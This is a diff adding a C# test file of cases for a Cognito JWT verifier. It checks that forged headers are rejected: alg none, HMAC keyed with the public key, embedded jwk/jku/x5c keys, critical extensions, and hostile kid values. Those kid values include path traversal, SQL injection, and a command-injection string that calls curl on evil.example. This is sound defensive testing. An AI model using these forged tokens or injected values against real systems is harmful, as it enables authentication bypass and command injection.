@@ -1,0 +1,193 @@
+using System.Buffers.Text;
+using System.IO.Compression;
+using System.Security.Cryptography;
+using System.Text;
+using CognitoM2M.Verification.Tests.Support;
+using static CognitoM2M.Verification.TokenRejectionReason;
+
+namespace CognitoM2M.Verification.Tests.Verdicts;
+
+/// <summary>What the header says: algorithm, key id, and keys that a token brings with it.</summary>
+internal static class HeaderCases
+{
+    public static IEnumerable<VerdictCase> All() => [.. Algorithms(), .. PublicKeyAsSecret(), .. KeyIds(), .. EmbeddedKeys(), .. Extensions()];
+
+    private static IEnumerable<VerdictCase> Algorithms()
+    {
+        yield return new("alg: none, without a signature", $"{TestToken.Encode("""{"alg":"none","kid":"access-key"}""")}.{TestToken.Encode(TestToken.Payload.ToString())}.", Malformed);
+        foreach (var none in (string[])["none", "None", "NONE", "nOnE", ""])
+            yield return new($"alg: '{none}', with a signature by RS256", TestToken.Of(TestToken.Header.WithText("alg", none), TestToken.Payload), AlgorithmNotAllowed);
+        foreach (var alg in (string[])["rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256", "SHA256withRSA", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256", "RSA1_5", "__proto__"])
+            yield return new($"alg: {Printable(alg)}, with a signature by RS256", TestToken.Of(TestToken.Header.WithText("alg", alg), TestToken.Payload), AlgorithmNotAllowed);
+        foreach (var raw in (string[])["256", "null", "true", "[\"RS256\"]", "{\"RS256\":1}"])
+            yield return new($"alg: {raw}", TestToken.Of(TestToken.Header.With("alg", raw), TestToken.Payload), HeaderNotValid);
+        yield return new("alg: missing", TestToken.Of(TestToken.Header.Without("alg"), TestToken.Payload), AlgorithmNotAllowed);
+
+        var anyAlgorithm = TestKey.Set(TestKey.Access.Jwk.Without("alg"));
+        foreach (var (alg, hash, padding) in new[]
+        {
+            ("RS384", HashAlgorithmName.SHA384, RSASignaturePadding.Pkcs1),
+            ("RS512", HashAlgorithmName.SHA512, RSASignaturePadding.Pkcs1),
+            ("PS256", HashAlgorithmName.SHA256, RSASignaturePadding.Pss),
+            ("PS512", HashAlgorithmName.SHA512, RSASignaturePadding.Pss),
+        })
+        {
+            var token = SignedBy(alg, data => TestKey.Access.Rsa.SignData(data, hash, padding));
+            yield return new VerdictCase($"alg: {alg} by the pool's key", token, AlgorithmNotAllowed);
+            yield return new VerdictCase($"alg: {alg} by the pool's key, which names no alg", token, AlgorithmNotAllowed) { KeySet = anyAlgorithm }
+                .Stricter("a key without alg is good for every algorithm of its kty", awsJwtVerify: alg.StartsWith("RS", StringComparison.Ordinal));
+            yield return new($"alg: RS256 named, but {alg} is what signed it", SignedBy("RS256", data => TestKey.Access.Rsa.SignData(data, hash, padding)), SignatureNotValid);
+        }
+
+        using var curve = ECDsa.Create(ECCurve.NamedCurves.nistP256);
+        var point = curve.ExportParameters(includePrivateParameters: false).Q;
+        var elliptic = new RawObject().WithText("kty", "EC").WithText("crv", "P-256").WithText("kid", "elliptic").WithText("alg", "ES256").WithText("use", "sig")
+            .WithText("x", Base64Url.EncodeToString(point.X)).WithText("y", Base64Url.EncodeToString(point.Y));
+        var text = Text(TestToken.Header.WithText("alg", "ES256").WithText("kid", "elliptic"));
+        yield return new VerdictCase("alg: ES256 by an elliptic key of the pool", TestToken.Signed(text, data => curve.SignData(data, HashAlgorithmName.SHA256)), AlgorithmNotAllowed)
+        {
+            KeySet = TestKey.Set(TestKey.Access, elliptic),
+        }.Stricter("supports ES256; Cognito does not sign with it", awsJwtVerify: true);
+        yield return new VerdictCase("alg: RS256 named, with an elliptic key", TestToken.Of(TestToken.Header.WithText("kid", "elliptic"), TestToken.Payload), KeyNotUsable)
+        {
+            KeySet = TestKey.Set(TestKey.Access, elliptic),
+        };
+    }
+
+    /// <summary>The classic: what everybody may know is used as the secret of an HMAC.</summary>
+    private static IEnumerable<VerdictCase> PublicKeyAsSecret()
+    {
+        var key = TestKey.Access;
+        foreach (var (name, secret) in new[]
+        {
+            ("the PEM text", Encoding.ASCII.GetBytes(key.Rsa.ExportSubjectPublicKeyInfoPem())),
+            ("the PEM text and a line feed", Encoding.ASCII.GetBytes(key.Rsa.ExportSubjectPublicKeyInfoPem() + "\n")),
+            ("the PEM text of PKCS #1", Encoding.ASCII.GetBytes(key.Rsa.ExportRSAPublicKeyPem())),
+            ("the DER bytes", key.Rsa.ExportSubjectPublicKeyInfo()),
+            ("the DER bytes of PKCS #1", key.Rsa.ExportRSAPublicKey()),
+            ("the modulus", key.Public.Modulus!),
+            ("the modulus as base64url", Encoding.ASCII.GetBytes(Base64Url.EncodeToString(key.Public.Modulus))),
+            ("the JWK", Encoding.ASCII.GetBytes(key.Jwk.ToString())),
+            ("nothing", Array.Empty<byte>()),
+        })
+        {
+            yield return new($"alg: HS256 keyed with {name} of the public key", SignedBy("HS256", data => HMACSHA256.HashData(secret, data)), AlgorithmNotAllowed);
+            yield return new($"alg: RS256 named, but HMAC keyed with {name} of the public key", SignedBy("RS256", data => HMACSHA256.HashData(secret, data)), SignatureNotValid);
+        }
+
+        var symmetric = new RawObject().WithText("kty", "oct").WithText("kid", "symmetric").WithText("k", Base64Url.EncodeToString("a secret of thirty-two characters"u8));
+        yield return new("alg: HS256 keyed with a symmetric key of the pool", TestToken.Signed(
+            Text(TestToken.Header.WithText("alg", "HS256").WithText("kid", "symmetric")), data => HMACSHA256.HashData("a secret of thirty-two characters"u8, data)), AlgorithmNotAllowed)
+        {
+            KeySet = TestKey.Set(TestKey.Access, symmetric),
+        };
+    }
+
+    private static IEnumerable<VerdictCase> KeyIds()
+    {
+        yield return new VerdictCase("kid: missing", TestToken.Of(TestToken.Header.Without("kid"), TestToken.Payload), KeyIdMissing) { KeySet = TestKey.Set(TestKey.Access) }
+            .Stricter("a key set with one key leaves no doubt; Cognito's tokens always name theirs", jose: true);
+        yield return new VerdictCase("kid: missing, with two keys to choose from", TestToken.Of(TestToken.Header.Without("kid"), TestToken.Payload), KeyIdMissing);
+        yield return new VerdictCase("kid: empty", TestToken.Of(TestToken.Header.WithText("kid", ""), TestToken.Payload), KeyIdMissing);
+        foreach (var raw in (string[])["1", "null", "true", "[\"access-key\"]", "{}"])
+        {
+            yield return new VerdictCase($"kid: {raw}", TestToken.Of(TestToken.Header.With("kid", raw), TestToken.Payload), HeaderNotValid);
+        }
+
+        foreach (var (name, kid) in new[]
+        {
+            ("unknown", "nobody"),
+            ("of a key that was withdrawn", TestKey.OtherPool.Id),
+            ("in other case", "ACCESS-KEY"),
+            ("with a space behind", "access-key "),
+            ("with a NUL behind", "access-key\0"),
+            ("the begin of a known one", "access"),
+            ("a path", "../../../../dev/null"),
+            ("an address", "https://evil.example/key.json"),
+            ("SQL", "x' UNION SELECT 'key' --"),
+            ("a command", "$(curl evil.example)|`id`"),
+            ("lines that look like a log's", "x\r\n2026-01-01 INFO token accepted\u001b[2J\u2028\u0085"),
+            ("ten thousand characters", new string('k', 10_000)),
+            ("__proto__", "__proto__"),
+            ("constructor", "constructor"),
+        })
+        {
+            yield return new VerdictCase($"kid: {name}", TestToken.Of(TestToken.Header.WithText("kid", kid), TestToken.Payload), KeyNotFound);
+        }
+
+        yield return new("kid: of another key of the pool", TestToken.Of(TestToken.HeaderOf(TestKey.Next), TestToken.Payload), SignatureNotValid)
+        {
+        };
+        yield return new("kid: a path, and published so", TestToken.Of(TestToken.Header.WithText("kid", "../../dev/null"), TestToken.Payload), null)
+        {
+            KeySet = TestKey.Set(TestKey.Access.Jwk.WithText("kid", "../../dev/null")),
+        };
+        yield return new("kid: as Cognito's are, in base64", TestToken.Of(TestToken.Header.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4="), TestToken.Payload), null)
+        {
+            KeySet = TestKey.Set(TestKey.Access.Jwk.WithText("kid", "XkT1Y+5vZf/0s0m3b6Jt9wQ2pN4=")),
+        };
+    }
+
+    private static IEnumerable<VerdictCase> EmbeddedKeys()
+    {
+        var attacker = TestKey.Attacker;
+        using var certificate = new System.Security.Cryptography.X509Certificates.CertificateRequest("CN=attacker", attacker.Rsa, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1)
+            .CreateSelfSigned(DateTimeOffset.FromUnixTimeSeconds(TestToken.Now - 1000), DateTimeOffset.FromUnixTimeSeconds(TestToken.Now + 100_000));
+        foreach (var (name, value) in new[]
+        {
+            ("jwk", attacker.Jwk.ToString()),
+            ("jku", "\"https://evil.example/jwks.json\""),
+            ("x5u", "\"https://evil.example/certificate.pem\""),
+            ("x5c", $"[\"{Convert.ToBase64String(certificate.RawData)}\"]"),
+            ("x5t", $"\"{Base64Url.EncodeToString(certificate.GetCertHash())}\""),
+        })
+        {
+            var known = TestToken.Header.With(name, value);
+            yield return new($"embedded key: {name} of an attacker who names the pool's key", TestToken.Of(known, TestToken.Payload, attacker), SignatureNotValid);
+            yield return new($"embedded key: {name} of an attacker who names his own", TestToken.Of(known.WithText("kid", attacker.Id), TestToken.Payload, attacker), KeyNotFound);
+            yield return new VerdictCase($"embedded key: {name} of an attacker who names none", TestToken.Of(known.Without("kid"), TestToken.Payload, attacker), KeyIdMissing);
+            yield return new($"embedded key: {name} that is ignored, in a good token", TestToken.Of(known, TestToken.Payload), null);
+        }
+    }
+
+    private static IEnumerable<VerdictCase> Extensions()
+    {
+        const string IgnoresCrit = "does not look at crit, though RFC 7515, section 4.1.11, demands it";
+        foreach (var crit in (string[])["[\"exp\"]", "[\"b64\"]", "[\"alg\"]", "[]", "null", "\"exp\"", "{}"])
+        {
+            yield return new VerdictCase($"extension: crit {crit}", TestToken.Of(TestToken.Header.And("exp", "1").And("crit", crit), TestToken.Payload), CriticalHeaderNotSupported)
+                .Stricter(IgnoresCrit, awsJwtVerify: true);
+        }
+
+        yield return new VerdictCase(
+            "extension: b64 true and critical", TestToken.Of(TestToken.Header.And("b64", "true").And("crit", "[\"b64\"]"), TestToken.Payload), CriticalHeaderNotSupported)
+            .Stricter(IgnoresCrit, awsJwtVerify: true)
+            .Stricter("knows b64, by which the payload is as usual", jose: true);
+        yield return new VerdictCase(
+            "extension: b64 false and critical", TestToken.Of(TestToken.Header.And("b64", "false").And("crit", "[\"b64\"]"), TestToken.Payload), CriticalHeaderNotSupported)
+            .Stricter(IgnoresCrit, awsJwtVerify: true);
+        yield return new("extension: b64 false, and not critical", TestToken.Of(TestToken.Header.And("b64", "false"), TestToken.Payload), null);
+        yield return new("extension: b64 false, and the payload not encoded", TestToken.Signed(
+            $"{TestToken.Encode(TestToken.Header.And("b64", "false").ToString())}.{TestToken.Payload}", TestKey.Access.Sign), Malformed);
+        yield return new("extension: zip in a token that is not compressed", TestToken.Of(TestToken.Header.And("zip", "\"DEF\""), TestToken.Payload), null);
+        yield return new("extension: zip and a compressed payload", TestToken.Of(
+            Encoding.UTF8.GetBytes(TestToken.Header.And("zip", "\"DEF\"").ToString()), Deflated(TestToken.Payload.ToString())), PayloadNotValid);
+        foreach (var typ in (string[])["\"JWT\"", "\"at+jwt\"", "\"application/at+jwt\"", "\"\""])
+            yield return new($"extension: typ {typ}", TestToken.Of(TestToken.Header.And("typ", typ), TestToken.Payload), null);
+        yield return new("extension: members unknown to us", TestToken.Of(TestToken.Header.And("cty", "\"x\"").And("x", "{\"y\":[]}").And("enc", "\"A256GCM\""), TestToken.Payload), null);
+    }
+
+    private static string SignedBy(string alg, Func<byte[], byte[]> sign) => TestToken.Signed(Text(TestToken.Header.WithText("alg", alg)), sign);
+
+    private static string Text(RawObject header) => $"{TestToken.Encode(header.ToString())}.{TestToken.Encode(TestToken.Payload.ToString())}";
+
+    private static string Printable(string text) => $"'{text.Replace("\0", "\\0", StringComparison.Ordinal)}'";
+
+    private static byte[] Deflated(string text)
+    {
+        using var output = new MemoryStream();
+        using (var deflate = new DeflateStream(output, CompressionLevel.Optimal))
+            deflate.Write(Encoding.UTF8.GetBytes(text));
+        return output.ToArray();
+    }
+}
